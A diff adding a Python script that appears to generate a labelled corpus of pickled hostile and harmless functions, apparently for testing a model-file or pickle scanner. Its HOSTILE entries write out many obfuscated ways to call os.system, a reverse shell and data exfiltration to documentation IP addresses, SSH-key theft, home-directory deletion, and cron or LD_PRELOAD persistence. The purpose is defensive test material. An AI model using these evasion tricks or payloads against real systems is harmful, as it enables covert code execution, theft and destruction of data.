@@ -1,0 +1,340 @@
+"""Pickles of functions and classes that carry their code, for carried.json. Nothing in them is called while they are made, and no payload does
+more than run `id`, name a place, or reach an address of RFC 5737. One Python and one library at a time, as one entry of the JSON; STEP takes every
+STEPth of the harmless and of the hostile ones. The versions that are in carried.json:
+    (echo '{'; python3.13 make-carried.py cloudpickle 1; echo ,; python3.11 make-carried.py dill 1; for each of Python 2.7 with cloudpickle 1.3 and
+    dill 0.3.5, 3.7 with cloudpickle 0.5.6 and dill 0.2.9 and with cloudpickle 2.2, 3.8, 3.9 with cloudpickle 1.6 and dill 0.3.4, 3.10, 3.12:
+    echo ,; python make-carried.py LIBRARY 9; echo '}') > carried.json"""
+import base64, importlib, json, sys, zlib
+def cls(body, imports='', name='M', pre=''):
+    lines = '\n'.join('    ' + line for line in body.strip('\n').split('\n'))
+    return '%s\n%s\nclass %s(object):\n%s\nobj = %s()\n' % (imports, pre, name, lines, name)
+
+def meth(body, name='score', args='self, x', imports='', pre=''):
+    return cls('def %s(%s):\n%s' % (name, args, '\n'.join('    ' + line for line in body.strip('\n').split('\n'))), imports, pre=pre)
+
+HOSTILE = {
+    'plain import in method': meth('import os\nos.system("id")\nreturn x'),
+    'predict behind condition': meth('import os\nif len(x) > 100:\n    os.system("id")\nreturn x', 'predict'),
+    'global import': meth('os.system("id")\nreturn x', imports='import os'),
+    'aliased global import': meth('np.system("id")\nreturn x', imports='import os as np'),
+    'dunder import in variable': meth('m = __import__("os")\nm.system("id")'),
+    'dunder import split name': meth('m = __import__("o" + "s")\ngetattr(m, "sys" + "tem")("id")'),
+    'dunder import pieces in variables': meth('a = "o"\nb = "s"\nm = __import__(a + b)\nc = "sys"\nd = "tem"\ngetattr(m, c + d)("id")'),
+    'getattr variable': meth('name = "system"\ngetattr(os, name)("id")', imports='import os'),
+    'getattr alias builtin': meth('g = getattr\ng(os, "system")("id")', imports='import os'),
+    'vars': meth('vars(os)["system"]("id")', imports='import os'),
+    'dict attribute': meth('os.__dict__["system"]("id")', imports='import os'),
+    'dict attribute get': meth('os.__dict__.get("system")("id")', imports='import os'),
+    'map': meth('list(map(os.system, ["id"]))', imports='import os'),
+    'thread target': meth('threading.Thread(target=os.system, args=("id",)).start()', imports='import os, threading'),
+    'timer': meth('threading.Timer(1, os.system, ["id"]).start()', imports='import os, threading'),
+    'partial': meth('functools.partial(os.system, "id")()', imports='import os, functools'),
+    'decorator': meth('@os.system\ndef f():\n    pass', imports='import os'),
+    'chr join genexpr': meth('n = "".join(chr(c) for c in [115, 121, 115, 116, 101, 109])\ngetattr(os, n)("id")', imports='import os'),
+    'chr join map': meth('n = "".join(map(chr, [115, 121, 115, 116, 101, 109]))\ngetattr(os, n)("id")', imports='import os'),
+    'chr concat': meth('n = chr(111) + chr(115)\n__import__(n).system("id")'),
+    'globals subscript': meth('globals()["os"].system("id")', imports='import os'),
+    'builtins subscript': meth('__builtins__["eval"]("__import__(\'os\').system(\'id\')")'),
+    'builtins via globals': meth('globals()["__builtins__"]["exec"]("import os")'),
+    'importlib': meth('importlib.import_module("os").system("id")', imports='import importlib'),
+    'importlib from': meth('import_module("subprocess").run(["id"])', imports='from importlib import import_module'),
+    'sys.modules': meth('sys.modules["os"].system("id")', imports='import sys'),
+    'sys.modules get': meth('sys.modules.get("o" "s").popen("id").read()', imports='import sys'),
+    'popen subclass inside': meth('class A(sp.Popen):\n    pass\nA(["id"])', imports='import subprocess as sp'),
+    'subprocess run': meth('subprocess.run(["sh", "-c", "id"], check=False)', imports='import subprocess'),
+    'subprocess from import': meth('check_output("id", shell=True)', imports='from subprocess import check_output'),
+    'closure': 'import os\ndef make():\n    run = os\n    class M(object):\n        def score(self, x):\n            return run.system("id")\n    return M()\nobj = make()\n',
+    'closure function': 'import os\ndef make(f):\n    class M(object):\n        def score(self, x):\n            return f("id")\n    return M()\nobj = make(os.system)\n',
+    'default': meth('f.system("id")', args='self, x, f=os', imports='import os'),
+    'default function': meth('f("id")', args='self, x, f=os.system', imports='import os'),
+    'base64 exec': meth('import base64\nexec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=="))'),
+    'zlib exec': meth('import base64, zlib\nexec(zlib.decompress(base64.b64decode("eJzLzC3ILypRyC+2BhIKxZXFJam5GuoFqcUl6poAmBQJtw==")))'),
+    'codecs rot13': meth('import codecs\nm = __import__(codecs.decode("bf", "rot13"))\ngetattr(m, codecs.decode("flfgrz", "rot_13"))("id")'),
+    'base64 name': meth('import base64\nm = __import__(base64.b64decode(b"b3M=").decode())\ngetattr(m, base64.b64decode("c3lzdGVt").decode())("id")'),
+    'hex name': meth('m = __import__(bytes.fromhex("6f73").decode())\nm.system("id")'),
+    'reversed name': meth('getattr(__import__("so"[::-1]), "metsys"[::-1])("id")'),
+    'reversed join': meth('getattr(__import__("os"), "".join(reversed("metsys")))("id")'),
+    'replace': meth('getattr(__import__("oXs".replace("X", "")), "s-y-s-t-e-m".replace("-", ""))("id")'),
+    'format': meth('getattr(__import__("{}{}".format("o", "s")), "%s%s" % ("sys", "tem"))("id")'),
+    'f-string': meth('a = "sys"\ngetattr(os, f"{a}tem")("id")', imports='import os'),
+    'xor loop': meth('n = ""\nfor c in [116, 126, 116, 115, 98, 106]:\n    n += chr(c ^ 7)\ngetattr(os, n)("id")', imports='import os'),
+    'xor loop import': meth('n = ""\nfor c in [104, 116]:\n    n += chr(c ^ 7)\nm = __import__(n)\nf = ""\nfor c in [116, 126, 116, 115, 98, 106]:\n    f += chr(c ^ 7)\ngetattr(m, f)("id")'),
+    'dir search': meth('n = [d for d in dir(os) if d.startswith("sys")][0]\ngetattr(os, n)("id")', imports='import os'),
+    'eval constant': meth('eval("__import__(\'os\').system(\'id\')")'),
+    'exec constant': meth('exec("import os\\nos.system(\'id\')")'),
+    'compile': meth('eval(compile("__import__(\'os\').system(\'id\')", "", "eval"))'),
+    'exec state': cls('def __init__(self):\n    self.code = "import os; os.system(\'id\')"\ndef score(self, x):\n    exec(self.code)'),
+    'name in state': cls('def __init__(self):\n    self.n = "system"\ndef score(self, x):\n    getattr(os, self.n)("id")', imports='import os'),
+    'module name in state': cls('def __init__(self):\n    self.m = "os"\n    self.n = "system"\ndef score(self, x):\n    getattr(__import__(self.m), self.n)("id")'),
+    'module in state': cls('def __init__(self):\n    self.m = os\ndef score(self, x):\n    self.m.system("id")', imports='import os'),
+    'attribute between methods': cls('def fit(self, x):\n    self.m = __import__("os")\n    return self\ndef score(self, x):\n    self.m.popen("id")'),
+    'helper function': 'import os\ndef helper(c):\n    return os.system(c)\nclass M(object):\n    def score(self, x):\n        return helper("id")\nobj = M()\n',
+    'global set by other': 'def arm():\n    global run\n    import os\n    run = os.system\nclass M(object):\n    def score(self, x):\n        arm()\n        run("id")\nobj = M()\n',
+    'setstate': cls('def __setstate__(self, s):\n    import os\n    os.system("id")\ndef __getstate__(self):\n    return {"a": 1}'),
+    'del': cls('def __del__(self):\n    import os as o\n    if o.environ.get("X"):\n        o.system("id")'),
+    'getattr hook': cls('def __getattr__(self, n):\n    if n == "predict":\n        import os\n        os.system("id")\n    raise AttributeError(n)'),
+    'str': cls('def __str__(self):\n    import subprocess\n    return subprocess.getoutput("id")'),
+    'property': cls('@property\ndef coef_(self):\n    import os\n    os.system("id")\n    return 1'),
+    'staticmethod': cls('@staticmethod\ndef run(x):\n    import os\n    os.system("id")'),
+    'classmethod': cls('@classmethod\ndef run(cls, x):\n    import os\n    os.system("id")'),
+    'lambda': 'obj = lambda x: __import__("os").system("id")\n',
+    'plain function': 'import os\ndef predict(x):\n    os.system("id")\n    return x\nobj = predict\n',
+    'nested lambda': 'obj = lambda x: (lambda y: __import__("os").popen(y))("id")\n',
+    'generator': 'def obj(x):\n    import os\n    for i in x:\n        yield os.system("id")\n',
+    'ctypes': meth('import ctypes\nctypes.CDLL(None).system(b"id")'),
+    'posix': meth('import posix\nposix.system("id")'),
+    'pty': meth('import pty\npty.spawn("/bin/sh")'),
+    'socket shell': meth('import socket, os\ns = socket.socket()\ns.connect(("192.0.2.1", 4444))\nos.dup2(s.fileno(), 0)\nos.execv("/bin/sh", ["sh"])'),
+    'exfiltrate': meth('import urllib.request\nurllib.request.urlopen("http://192.0.2.1/?" + open("/etc/passwd").read())'),
+    'requests post': meth('import os\n__import__("requests").post("http://192.0.2.1/", data=dict(os.environ))'),
+    'dns': meth('import socket\nsocket.gethostbyname("x.example.com")'),
+    'ssh key': meth('import os\nreturn open(os.path.expanduser("~/.ssh/id_rsa")).read()'),
+    'bashrc': meth('import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("id\\n")'),
+    'rmtree home': meth('import shutil, os\nshutil.rmtree(os.path.expanduser("~"))'),
+    'remove listing': meth('import os, glob\nfor f in glob.glob("/home/*/*"):\n    os.remove(f)'),
+    'subclasses': meth('for c in ().__class__.__base__.__subclasses__():\n    if c.__name__ == "Popen":\n        c(["id"])'),
+    'function globals': meth('import logging\nlogging.getLogger.__globals__["os"].system("id")'),
+    'shutil.os': meth('import shutil\nshutil.os.system("id")'),
+    'attrgetter': meth('import operator, os\noperator.attrgetter("system")(os)("id")'),
+    'methodcaller': meth('import operator, os\noperator.methodcaller("system", "id")(os)'),
+    'pickle loads': meth('import pickle\npickle.loads(b"cos\\nsystem\\n(S\'id\'\\ntR.")'),
+    'marshal loads': meth('import marshal, types\ntypes.FunctionType(marshal.loads(x), globals())()'),
+    'async': 'class M(object):\n    async def predict(self, x):\n        import os\n        os.system("id")\nobj = M()\n',
+    'walrus list': meth('fs = [os.system, print]\nfs[0]("id")', imports='import os'),
+    'dict of functions': meth('d = {"a": os.system}\nd["a"]("id")', imports='import os'),
+    'ternary': meth('f = os.system if x else print\nf("id")', imports='import os'),
+    'try except': meth('try:\n    x.foo()\nexcept Exception as e:\n    import os\n    os.system("id")\nfinally:\n    pass'),
+    'with': meth('import os\nwith open("/tmp/x") as f:\n    os.system(f.read())'),
+    'patch builtins': meth('import builtins\nbuiltins.open = lambda *a: None'),
+    'patch torch load': meth('import pickle\npickle.load = self.evil'),
+    'atexit': meth('import atexit, os\natexit.register(os.system, "id")'),
+    'multiprocessing': meth('import multiprocessing, os\nmultiprocessing.Process(target=os.system, args=("id",)).start()'),
+    'asyncio': meth('import asyncio\nasyncio.run(asyncio.create_subprocess_shell("id"))'),
+    'runpy': meth('import runpy\nrunpy.run_path("/tmp/x.py")'),
+    'write and chmod and load': meth('import ctypes\nopen("/tmp/x.so", "wb").write(self.blob)\nctypes.cdll.LoadLibrary("/tmp/x.so")'),
+    'os.exec via loop names': meth('import os\nfor n in ("system", "popen"):\n    getattr(os, n)("id")'),
+    'reduce chain': meth('import functools\nfunctools.reduce(getattr, ["system"], __import__("os"))("id")'),
+    'pydoc locate': meth('import pydoc\npydoc.locate("os.system")("id")'),
+    'pkgutil resolve': meth('import pkgutil\npkgutil.resolve_name("os:system")("id")'),
+    'torch collect_env': meth('from torch.utils.collect_env import run\nrun("id")'),
+    'six exec': meth('import six\nsix.exec_("import os; os.system(\'id\')")'),
+    'ld preload': meth('import os\nos.environ["LD_PRELOAD"] = "/tmp/x.so"'),
+    'cron': meth('open("/etc/cron.d/x", "w").write("* * * * * root id")'),
+}
+HOSTILE.update({
+    'keyword import': meth('__import__(name="os").system("id")'),
+    'relative import': meth('import importlib\nimportlib.import_module(".path", "os").os.system("id")'),
+    'starred getattr': meth('getattr(*(os, "system"))("id")', imports='import os'),
+    'dunder getattribute': meth('os.__getattribute__("system")("id")', imports='import os'),
+    'object getattribute': meth('object.__getattribute__(os, "system")("id")', imports='import os'),
+    'inspect members': meth('import inspect\n[f for n, f in inspect.getmembers(os) if n == "sys" "tem"][0]("id")', imports='import os'),
+    'values of vars': meth('list(vars(os).values())[7]("id")', imports='import os'),
+    'items of dict': meth('for k, v in os.__dict__.items():\n    if len(k) == 6 and k[0] == "s" and k[5] == "m":\n        v("id")', imports='import os'),
+    'merged dict': meth('d = dict(vars(os))\nd["system"]("id")', imports='import os'),
+    'updated dict': meth('d = {}\nd.update(os.__dict__)\nd["system"]("id")', imports='import os'),
+    'sys through module': meth('import threading\nthreading._sys.modules["os"].system("id")'),
+    'importlib through inspect': meth('import inspect\ninspect.importlib.import_module("os").system("id")'),
+    'numbers in state': cls('def __init__(self):\n    self.c = [111, 115]\ndef score(self, x):\n    __import__("".join(chr(c) for c in self.c)).system("id")'),
+    'encoded in state': cls('def __init__(self):\n    self.c = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="\ndef score(self, x):\n    import base64\n    exec(base64.b64decode(self.c))'),
+    'name of a function': 'def posix():\n    pass\ndef system():\n    pass\nclass M(object):\n    a = posix\n    b = system\n    def score(self, x):\n        getattr(__import__(posix.__name__), system.__name__)("id")\nobj = M()\n',
+    'docstring name': meth('"""system"""\nreturn getattr(os, self.score.__doc__)("id")', imports='import os'),
+    'code replace': meth('f = lambda: None\nf.__code__ = f.__code__.replace(co_names=("os",), co_code=x)\nf()'),
+    'return module': cls('def m(self):\n    import os\n    return os\ndef score(self, x):\n    f = self.m()\n    getattr(f, "sys" + "tem")("id")'),
+    'argument module': cls('def m(self, a, b):\n    getattr(a, b)("id")\ndef score(self, x):\n    import os\n    self.m(os, "system")'),
+    'exception carries module': meth('import os\ntry:\n    raise ValueError(os)\nexcept ValueError as e:\n    e.args[0].system("id")'),
+    'list of modules': meth('import os\nfor m in [os]:\n    m.system("id")'),
+    'tuple unpack': meth('import os\na, b = os, "id"\na.system(b)'),
+    'walk class body': meth('class H:\n    from os import system as run\nH.run("id")'),
+    'with alias': meth('import contextlib, os\nwith contextlib.nullcontext(os) as m:\n    m.system("id")') if __import__('sys').version_info > (3, 7) else meth('import os\nos.system("id")'),
+    'home join bashrc': meth('import os\np = os.path.join(os.environ["HOME"], ".bash" + "rc")\nopen(p, "a").write("id")'),
+    'path home': meth('from pathlib import Path\n(Path.home() / ".ssh" / "authorized_keys").write_text("x")'),
+    'rmtree state': cls('def __init__(self):\n    self.p = "/home"\ndef score(self, x):\n    import shutil\n    shutil.rmtree(self.p)'),
+    'walk and remove': meth('import os\nfor d, _, fs in os.walk(os.path.expanduser("~")):\n    for f in fs:\n        os.remove(os.path.join(d, f))'),
+    'unpickle decoded': meth('import pickle\npickle.loads(bytes(bytearray(b ^ 7 for b in bytearray.fromhex("6468740d747e7473626a0d2f54206e63200d735529"))))'),
+    'unpickle base64': meth('import pickle, base64\npickle.loads(base64.b64decode("Y29zCnN5c3RlbQooUydpZCcKdFIu"))'),
+    'yaml unsafe': meth('import yaml\nyaml.unsafe_load("!!python/object/apply:os.system [id]")'),
+    'pandas query': meth('x.query("@pd.io.common.os.system(\'id\')")\nimport pandas as pd\npd.eval("__import__(\'os\').system(\'id\')")'),
+    'ip address': meth('import pandas as pd\npd.read_csv("http://203.0.113.9/x?" + str(x))'),
+    'numpy ctypeslib': meth('import numpy as np\nnp.ctypeslib.load_library("x", ".")'),
+    'file loader': meth('from importlib.machinery import SourceFileLoader\nSourceFileLoader("x", "/tmp/x.py").load_module()'),
+    'spec loader': meth('import importlib.util as u\ns = u.spec_from_file_location("x", "/tmp/x.py")\nm = u.module_from_spec(s)\ns.loader.exec_module(m)'),
+    'posix_spawn': meth('import os\nos.posix_spawn("/bin/sh", ["sh"], {})'),
+    'os.exec in thread class': meth('import threading\nclass T(threading.Thread):\n    def run(self):\n        import os\n        os.execvp("id", ["id"])\nT().start()'),
+    'mmap shellcode': meth('import mmap, ctypes\nm = mmap.mmap(-1, 4096, prot=7)\nm.write(x)\nctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_int.from_buffer(m)))()'),
+    'gc objects': meth('import gc\nfor o in gc.get_objects():\n    if getattr(o, "__name__", "") == "os":\n        o.system("id")'),
+    'frame globals': meth('import sys\nsys._getframe(1).f_globals["__builtins__"]["eval"]("1")'),
+    'generator frame': meth('g = (i for i in [1])\ng.gi_frame.f_builtins["eval"](x)'),
+    'lambda default': 'obj = lambda x, m=__import__("os"): m.system("id")\n',
+    'comprehension call': meth('[f("id") for f in [os.system]]', imports='import os'),
+    'sorted key': meth('sorted(["id"], key=os.system)', imports='import os'),
+    'any generator': meth('any(os.popen(c) for c in ["id"])', imports='import os'),
+    'eval of data': meth('return eval(x)'),
+    'apply eval': meth('return x.apply(eval)'),
+    'bytes join': meth('m = b"".join([b"o", b"s"]).decode()\n__import__(m).system("id")'),
+    'split and index': meth('a = "os,system,id".split(",")\ngetattr(__import__(a[0]), a[1])(a[2])'),
+    'dict of pieces': meth('d = {"a": "o", "b": "s"}\n__import__(d["a"] + d["b"]).system("id")'),
+    'slice of text': meth('t = "xxsystemxx"\ngetattr(os, t[2:-2])("id")', imports='import os'),
+    'lower': meth('getattr(__import__("OS".lower()), "SYSTEM".lower())("id")'),
+    'int to bytes': meth('n = (29551).to_bytes(2, "little").decode()\n__import__(n[::-1]).system("id")'),
+    'set hook': meth('import sys\nsys.modules["numpy"] = self'),
+    'ld via update': meth('import os\nos.environ.update({"LD_PRELOAD": "/tmp/x.so"})'),
+    'socket from import': meth('from socket import create_connection\ncreate_connection(("192.0.2.1", 80)).sendall(b"x")'),
+    'http client': meth('import http.client as h\nh.HTTPConnection("192.0.2.1").request("GET", "/")'),
+    'smtp': meth('import smtplib\nsmtplib.SMTP("192.0.2.1").sendmail("a", "b", "c")'),
+    'two lambdas': 'obj = [lambda x: x, lambda x: __import__("subprocess").Popen(["id"])]\n',
+    'dict of methods': 'import os\nobj = {"model": [1.0], "post": lambda y: (os.system("id"), y)[1]}\n',
+    'nested class': 'class O(object):\n    class I(object):\n        def f(self):\n            import os\n            os.system("id")\nobj = O()\n',
+    'inherited': 'class B(object):\n    def run(self):\n        import os\n        os.system("id")\nclass M(B):\n    pass\nobj = M()\n',
+    'metaclass': 'class Meta(type):\n    def __call__(cls, *a):\n        import os\n        os.system("id")\n        return type.__call__(cls, *a)\nobj = Meta("M", (object,), {})\n',
+    'init subclass': 'class B(object):\n    def __init_subclass__(cls, **k):\n        if k:\n            import os\n            os.system("id")\nobj = B()\n',
+    'slots and new': 'class M(object):\n    def __new__(cls, *a):\n        if a:\n            import os\n            os.system("id")\n        return object.__new__(cls)\nobj = M()\n',
+})
+HARMLESS_MORE = {
+    'root path': meth('return open("/root/data/train.csv").read() + open("/home/me/x.csv").read()'),
+    'graphviz path': meth('import os\nos.environ["PATH"] += os.pathsep + "C:/Program Files/Graphviz/bin"'),
+    'jinja prompt': meth('import jinja2\nreturn jinja2.Template("Hello {{ name }}").render(name=x)'),
+    'numexpr': meth('import numexpr as ne\nreturn ne.evaluate("a + b")'),
+    'yaml config': meth('import yaml\nwith open("c.yaml") as f:\n    return yaml.load(f, Loader=yaml.SafeLoader)'),
+    'sympy': meth('import sympy\nreturn sympy.lambdify(sympy.symbols("x"), sympy.sympify("x**2"))'),
+    'glob function': meth('return [open(f).read() for f in glob("data/*.csv")]', imports='from glob import glob'),
+    'listdir': meth('return [join(self.d, f) for f in listdir(self.d) if isfile(join(self.d, f))]', imports='from os import listdir\nfrom os.path import join, isfile'),
+    'own method system': cls('def system(self, a, b):\n    return a + b\ndef predict(self, x):\n    return self.system(x, 1)'),
+    'loop names': cls('def predict(self, x):\n    out = 0\n    for k in ("linear", "square"):\n        out += getattr(self, "_" + k)(x)\n    return out\ndef _linear(self, x):\n    return x\ndef _square(self, x):\n    return x * x'),
+    'registry by name': meth('import sklearn.metrics as m\nreturn getattr(m, self.metric + "_score")(x, x)'),
+    'optimizer by name': meth('import torch\nreturn getattr(torch.optim, name)(self.parameters(), lr=0.1)', args='self, name="Adam"'),
+    'signal processing': meth('from scipy import signal, stats\nreturn signal.butter(3, 0.1), stats.zscore(x), signal.lfilter([1], [1], x)'),
+    'statsmodels': meth('import statsmodels.api as sm\nreturn sm.OLS(x, x).fit().summary()'),
+    'nltk': meth('import nltk\nfrom nltk.corpus import stopwords\nreturn [w for w in nltk.word_tokenize(x) if w not in stopwords.words("english")]'),
+    'spacy': meth('import spacy\nnlp = spacy.load("en_core_web_sm")\nreturn [t.lemma_ for t in nlp(x)]'),
+    'plot': meth('import matplotlib.pyplot as plt\nplt.plot(x)\nplt.savefig("out.png")\nplt.close()'),
+    'sql': meth('import sqlite3\nc = sqlite3.connect("x.db")\nreturn c.execute("select * from t").fetchall()'),
+    'cv2': meth('import cv2\nimport numpy as np\nimg = cv2.imdecode(np.frombuffer(x, np.uint8), 1)\nreturn cv2.resize(img, (224, 224))'),
+    'timer context': 'import time\nclass T(object):\n    def __enter__(self):\n        self.t = time.time()\n        return self\n    def __exit__(self, *a):\n        print("%.3f" % (time.time() - self.t))\nobj = T()\n',
+    'slots': 'class P(object):\n    __slots__ = ("a", "b")\n    def __init__(self):\n        self.a, self.b = 1, 2\n    def __getstate__(self):\n        return (self.a, self.b)\n    def __setstate__(self, s):\n        self.a, self.b = s\nobj = P()\n',
+    'ordered dict subclass': 'from collections import OrderedDict\nclass D(OrderedDict):\n    def __missing__(self, k):\n        self[k] = v = []\n        return v\nobj = D()\n',
+    'getattr delegate': 'class W(object):\n    def __init__(self, m):\n        self.__dict__["m"] = m\n    def __getattr__(self, n):\n        if n.startswith("__"):\n            raise AttributeError(n)\n        return getattr(self.__dict__["m"], n)\nobj = W(3)\n',
+    'abstract': 'import abc\nclass A(abc.ABC):\n    @abc.abstractmethod\n    def f(self):\n        """runs os.system(\'id\') never"""\nclass B(A):\n    def f(self):\n        return 1\nobj = B()\n' if __import__('sys').version_info > (3,) else 'obj = lambda: 1\n',
+    'enum': 'import enum\nclass C(enum.Enum):\n    A = 1\n    B = 2\n    def label(self):\n        return self.name.lower()\nobj = C.A\n' if __import__('sys').version_info > (3,) else 'obj = lambda: 1\n',
+    'dataclass': 'import dataclasses\n@dataclasses.dataclass\nclass C:\n    a: int = 1\n    b: list = dataclasses.field(default_factory=list)\n    def total(self):\n        return self.a + sum(self.b)\nobj = C()\n' if __import__('sys').version_info > (3, 7) else 'obj = lambda: 1\n',
+    'lru cache': 'import functools\n@functools.lru_cache(maxsize=None)\ndef fib(n):\n    return n if n < 2 else fib(n - 1) + fib(n - 2)\ndef obj(n):\n    return fib(n)\n' if __import__('sys').version_info > (3,) else 'obj = lambda: 1\n',
+    'retry': meth('import time\nfor i in range(3):\n    try:\n        return self.call(x)\n    except Exception:\n        time.sleep(2 ** i)\nraise RuntimeError("failed")'),
+    'mlflow wrapper': cls('def load_context(self, context):\n    import joblib\n    self.model = joblib.load(context.artifacts["model"])\n    with open(context.artifacts["config"]) as f:\n        import json\n        self.config = json.load(f)\ndef predict(self, context, model_input):\n    return self.model.predict(model_input[self.config["columns"]])'),
+    'np.load': meth('import numpy as np\nd = np.load("x.npy", allow_pickle=True)\nnp.savez("y.npz", a=d)\nreturn d'),
+    'uuid': meth('import uuid, getpass\nreturn str(uuid.uuid4()) + getpass.getuser()'),
+    'device': meth('import torch\nself.device = torch.device("cuda" if torch.cuda.is_available() else "cpu")\ntorch.backends.cudnn.benchmark = True\nreturn x.to(self.device)'),
+    'pd options': meth('import pandas as pd\npd.options.mode.chained_assignment = None\npd.set_option("display.max_rows", 10)'),
+    'atexit close': meth('import atexit\natexit.register(self.close)'),
+    'shutil copy': meth('import shutil, os\nshutil.copy(self.src, os.path.join(self.out, "m.bin"))\nreturn shutil.disk_usage(".")'),
+    'itertools functools': meth('import itertools, functools, operator\nreturn functools.reduce(operator.add, itertools.chain.from_iterable(x), 0)'),
+    'decimal format': meth('return f"{x:>10.2f}" + f"{self.name!r}"' if __import__('sys').version_info > (3, 6) else 'return x'),
+    'match': meth('return {k: v for k, v in zip(x, range(3)) if v and k not in (1, 2)}, {a for a in x}, [b for b in x for c in b]'),
+    'weakref finalize': meth('import weakref, shutil, tempfile\nself.d = tempfile.mkdtemp()\nweakref.finalize(self, shutil.rmtree, self.d)'),
+    'base exception text': meth('raise ValueError("cannot import requests; run: pip install requests, see ~/.config and https://example.com/docs")'),
+    'progress subprocess error': meth('import subprocess\ntry:\n    return self.f(x)\nexcept subprocess.CalledProcessError as e:\n    return e.returncode'),
+}
+if __import__('sys').version_info < (3,):
+    HOSTILE = {k: v for k, v in HOSTILE.items() if k not in ('f-string', 'async', 'walrus list', 'ternary', 'path home', 'http client', 'int to bytes')}
+HARMLESS = {
+    'lambda': 'obj = lambda x: x + 1\n',
+    'pow': 'def obj(x, n=2):\n    return x ** n\n',
+    'transformer': cls('def __init__(self, columns=None):\n    self.columns = columns\ndef fit(self, X, y=None):\n    self.mean_ = np.mean(X, axis=0)\n    self.std_ = np.std(X, axis=0) + 1e-9\n    return self\ndef transform(self, X):\n    return (np.asarray(X) - self.mean_) / self.std_\ndef fit_transform(self, X, y=None):\n    return self.fit(X, y).transform(X)\ndef get_params(self, deep=True):\n    return {"columns": self.columns}\ndef set_params(self, **p):\n    for k, v in p.items():\n        setattr(self, k, v)\n    return self', imports='import math as np'),
+    'pandas': meth('import pandas as pd\ndf = pd.DataFrame(x)\ndf["a"] = df["b"].apply(lambda v: v.strip().lower())\nreturn df.eval("a + b").query("a > 1").groupby("a").agg({"b": "sum"})', 'transform'),
+    'caching': cls('def __init__(self, path="cache"):\n    self.path = path\ndef load(self):\n    os.makedirs(self.path, exist_ok=True)\n    name = os.path.join(self.path, "cache.pkl")\n    if os.path.exists(name):\n        with open(name, "rb") as f:\n            return pickle.load(f)\n    data = [1]\n    with open(name, "wb") as f:\n        pickle.dump(data, f)\n    return data', imports='import os, pickle'),
+    'logging': meth('logger = logging.getLogger(__name__)\nlogger.info("predicting %d", len(x))\nwarnings.warn("slow", UserWarning)\nreturn x', 'predict', imports='import logging, warnings'),
+    'json config': meth('with open("config.json") as f:\n    c = json.load(f)\nreturn c.get("threshold", 0.5)', imports='import json'),
+    'environ': meth('return os.environ.get("MODEL_DIR", ".") + os.getenv("X", "")', imports='import os'),
+    'environ set': meth('os.environ["CUDA_VISIBLE_DEVICES"] = ""\nos.environ.setdefault("TOKENIZERS_PARALLELISM", "false")', imports='import os'),
+    'unused requests': meth('import requests\nimport subprocess\nreturn x'),
+    'getattr self': cls('def predict(self, x, kind="linear"):\n    f = getattr(self, "_" + kind)\n    return f(x)\ndef _linear(self, x):\n    return x'),
+    'getattr numpy': meth('return getattr(np, self.agg)(x)', imports='import math as np'),
+    'getattr numpy state': cls('def __init__(self):\n    self.agg = "sqrt"\ndef predict(self, x):\n    return getattr(np, self.agg)(x)', imports='import math as np'),
+    'class name': meth('return self.__class__.__name__ + type(self).__name__'),
+    'dict update': cls('def __setstate__(self, s):\n    self.__dict__.update(s)\ndef __getstate__(self):\n    d = self.__dict__.copy()\n    d.pop("lock", None)\n    return d'),
+    'repr': cls('def __repr__(self):\n    return "%s(%s)" % (self.__class__.__name__, ", ".join("{}={!r}".format(k, v) for k, v in sorted(vars(self).items())))'),
+    'regex': meth('return [re.sub(r"\\W+", " ", t).lower().split() for t in x]', imports='import re'),
+    'counter': meth('c = Counter()\nfor t in x:\n    c.update(t)\nreturn c.most_common(3)', imports='from collections import Counter'),
+    'random': meth('random.seed(0)\nreturn random.choice(x)', imports='import random'),
+    'datetime': meth('return datetime.datetime.now().isoformat() + time.strftime("%Y")', imports='import datetime, time'),
+    'timeit': meth('t = timeit.default_timer()\nself.fit(x)\nreturn timeit.default_timer() - t', imports='import timeit'),
+    'torch forward': meth('import torch\nimport torch.nn.functional as F\nx = F.relu(self.fc1(x))\nwith torch.no_grad():\n    y = torch.sigmoid(x)\nself.model.eval()\nreturn y', 'forward'),
+    'torch load': meth('import torch\nself.model.load_state_dict(torch.load(path, map_location="cpu"))', args='self, path'),
+    'joblib load': meth('import joblib\nreturn joblib.load(os.path.join(os.path.dirname(__file__), "m.joblib"))', imports='import os'),
+    'closure': 'def make(n):\n    def f(x):\n        return x * n\n    return f\nobj = make(3)\n',
+    'decorated': 'import functools\ndef deco(f):\n    @functools.wraps(f)\n    def g(*a, **k):\n        try:\n            return f(*a, **k)\n        except ValueError as e:\n            raise RuntimeError("bad") from e\n    return g\n@deco\ndef obj(x):\n    return x\n' ,
+    'partial': 'import functools\ndef f(x, y):\n    return x + y\nobj = functools.partial(f, 1)\n',
+    'threads': cls('def run(self, x):\n    with ThreadPoolExecutor(4) as p:\n        return list(p.map(self._one, x))\ndef _one(self, v):\n    return v', imports='from concurrent.futures import ThreadPoolExecutor'),
+    'multiprocessing pool': cls('def run(self, x):\n    with multiprocessing.Pool(os.cpu_count()) as p:\n        return p.map(abs, x)', imports='import multiprocessing, os'),
+    'tempfile keras': cls('def to_state(self):\n    with tempfile.NamedTemporaryFile(suffix=".h5", delete=True) as f:\n        self.model.save(f.name)\n        data = f.read()\n    return {"model_str": data}\ndef __setstate__(self, state):\n    from tensorflow.keras.models import load_model\n    with tempfile.NamedTemporaryFile(suffix=".h5", delete=True) as f:\n        f.write(state["model_str"])\n        f.flush()\n        self.model = load_model(f.name)', imports='import tempfile'),
+    'tempfile remove': meth('fd, name = tempfile.mkstemp()\ntry:\n    os.write(fd, x)\nfinally:\n    os.close(fd)\n    os.remove(name)', imports='import os, tempfile'),
+    'rmtree temp': meth('d = tempfile.mkdtemp()\ntry:\n    pass\nfinally:\n    shutil.rmtree(d)', imports='import shutil, tempfile'),
+    'remove cache': meth('if os.path.exists(self.cache):\n    os.remove(self.cache)', imports='import os'),
+    'hashlib': meth('return hashlib.md5(json.dumps(x).encode("utf-8")).hexdigest()', imports='import hashlib, json'),
+    'base64 image': meth('return np.frombuffer(base64.b64decode(x["image"]), dtype="uint8")', 'preprocess', imports='import base64, math as np'),
+    'zlib': meth('return json.loads(zlib.decompress(x).decode("utf-8"))', imports='import zlib, json'),
